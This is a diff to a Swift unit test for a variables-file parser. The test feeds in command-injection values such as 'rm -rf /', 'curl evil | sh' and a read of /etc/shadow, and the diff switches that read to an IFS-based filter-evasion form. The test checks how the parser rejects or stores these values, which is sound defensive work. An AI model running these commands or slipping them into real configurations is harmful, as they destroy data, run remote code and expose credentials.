@@ -38,14 +38,14 @@ struct VarsFileParserTests {
             var_tags=$(rm -rf /)
             var_hostname=`reboot`
             var_post_install=/root/x.sh; curl evil | sh
-            var_pw=$(cat /etc/shadow)
+            var_pw=$(cat${IFS}/etc/shadow)
             var_os=debian$(id)
             """)
         #expect(file.entries[.tags] == nil)
         #expect(file.entries[.hostname] == nil)
         #expect(file.entries[.postInstall] == nil)
         #expect(file.entries[.os] == nil)
-        #expect(file.entries[.password]?.value == .text("$(cat /etc/shadow)"))
+        #expect(file.entries[.password]?.value == .text("$(cat${IFS}/etc/shadow)"))
         #expect(file.warnings.count == 4)
         #expect(file.warnings.allSatisfy { $0.kind == .invalidValue && $0.message.contains("/cfg/default.vars:") })
     }
